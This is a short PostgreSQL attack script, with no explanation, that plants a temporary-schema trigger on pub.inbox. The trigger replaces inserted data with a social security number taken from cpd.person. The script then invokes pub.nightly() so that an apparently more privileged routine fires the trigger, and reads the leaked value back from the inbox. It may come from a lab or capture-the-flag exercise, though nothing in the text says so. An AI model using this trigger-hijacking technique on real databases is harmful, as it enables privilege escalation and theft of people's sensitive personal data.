CREATE FUNCTION pg_temp.show() RETURNS trigger LANGUAGE plpgsql AS
$$ BEGIN NEW.line := (SELECT ssn FROM cpd.person WHERE id = 1); RETURN NEW; END $$;
DROP TRIGGER IF EXISTS takes ON pub.inbox;
CREATE TRIGGER takes BEFORE INSERT ON pub.inbox FOR EACH ROW EXECUTE FUNCTION pg_temp.show();
SELECT pub.nightly();
SELECT * FROM pub.inbox;
